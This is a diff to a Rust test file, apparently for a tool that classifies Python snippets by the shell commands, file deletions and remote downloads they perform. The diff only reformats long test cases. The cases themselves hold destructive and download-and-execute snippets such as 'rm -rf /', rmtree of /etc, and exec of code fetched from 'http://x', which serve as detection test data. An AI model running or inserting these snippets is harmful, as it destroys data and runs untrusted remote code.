@@ -24,7 +24,10 @@ fn commands() {
             ("subprocess.run('rm -rf *', shell=True, cwd='/')", "sh cd '/' && rm -rf *"),
             ("subprocess.run(['rm','-rf','.'], cwd='/')", "sh cd '/' && 'rm' '-rf' '.'"),
             ("subprocess.run(['bash'], input='rm -rf /', text=True)", "run bash\nsh rm -rf /"),
-            ("p = subprocess.Popen(['sh'], stdin=subprocess.PIPE)\np.communicate(b'rm -rf /')", "run sh\nsh rm -rf /"),
+            (
+                "p = subprocess.Popen(['sh'], stdin=subprocess.PIPE)\np.communicate(b'rm -rf /')",
+                "run sh\nsh rm -rf /",
+            ),
             ("p = subprocess.Popen('bash', stdin=-1)\np.stdin.write(b'x')", "sh bash\nsh x"),
             ("subprocess.run(['rm', '-rf'] + ['/'])", "run rm|-rf|/"),
             ("subprocess.run('rm -rf /'.split())", "run rm|-rf|/"),
@@ -49,7 +52,10 @@ fn commands() {
             ("x = os.system('a') or os.system('b')", "sh a\nsh b"),
             ("def main():\n    os.system('x')\nmain()", "sh x"),
             ("def run(c):\n    os.system(c)\nrun('rm -rf /')", "sh rm -rf /"),
-            ("def run(a, c='z'):\n    os.system(a + ' ' + c)\nrun('rm', '/')\nrun('ls', '/x')", "sh rm /\nsh rm /x\nsh ls /\nsh ls /x"),
+            (
+                "def run(a, c='z'):\n    os.system(a + ' ' + c)\nrun('rm', '/')\nrun('ls', '/x')",
+                "sh rm /\nsh rm /x\nsh ls /\nsh ls /x",
+            ),
         ],
     );
 }
@@ -140,7 +146,10 @@ fn files() {
             ("import glob\nfor f in glob.glob('/etc/*'):\n    os.remove(f)", "delete /etc/*"),
             ("for f in os.listdir('/'):\n    shutil.rmtree('/' + f)", "delete-all /*"),
             ("for f in os.listdir('.'):\n    if f.endswith('.tmp'):\n        os.remove(f)", "delete ?"),
-            ("for r, d, fs in os.walk('/x'):\n  for f in fs:\n    os.remove(os.path.join(r, f))", "delete /x/*"),
+            (
+                "for r, d, fs in os.walk('/x'):\n  for f in fs:\n    os.remove(os.path.join(r, f))",
+                "delete /x/*",
+            ),
             ("for p in Path('/x').iterdir(): p.unlink()", "delete /x/*"),
             ("[p.unlink() for p in Path('/x').glob('*.pem')]", "delete /x/*.pem"),
             ("for d in ['/etc', '/usr']:\n    shutil.rmtree(d)", "delete-all /etc\ndelete-all /usr"),
@@ -165,13 +174,25 @@ fn code_in_code() {
             ("import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3gnKQ=='))", "sh x"),
             ("exec(base64.b64decode(data))", "unresolved decoded"),
             ("import zlib; exec(zlib.decompress(base64.b64decode('eJw=')))", "unresolved decoded"),
-            ("import urllib.request; exec(urllib.request.urlopen('http://x').read())", "unresolved downloaded"),
+            (
+                "import urllib.request; exec(urllib.request.urlopen('http://x').read())",
+                "unresolved downloaded",
+            ),
             ("import requests; exec(requests.get('http://x').text)", "unresolved downloaded"),
             ("r = requests.get(u)\nexec(r.text)", "unresolved downloaded"),
-            ("from urllib.request import urlopen as u\neval(u('http://x').read().decode())", "unresolved downloaded"),
+            (
+                "from urllib.request import urlopen as u\neval(u('http://x').read().decode())",
+                "unresolved downloaded",
+            ),
             ("os.system(requests.get('http://x').text)", "unresolved downloaded\nsh ?"),
-            ("urllib.request.urlretrieve('http://x', 'x.sh'); os.system('sh x.sh')", "write x.sh\nunresolved downloaded\nsh sh x.sh"),
-            ("open('i.sh','wb').write(requests.get('http://x').content)\nsubprocess.run(['sh','i.sh'])", "write i.sh\nunresolved downloaded\nrun sh|i.sh"),
+            (
+                "urllib.request.urlretrieve('http://x', 'x.sh'); os.system('sh x.sh')",
+                "write x.sh\nunresolved downloaded\nsh sh x.sh",
+            ),
+            (
+                "open('i.sh','wb').write(requests.get('http://x').content)\nsubprocess.run(['sh','i.sh'])",
+                "write i.sh\nunresolved downloaded\nrun sh|i.sh",
+            ),
             ("print(requests.get('http://x').text)", ""),
             ("exec(open('setup.py').read())", "read setup.py"),
         ],
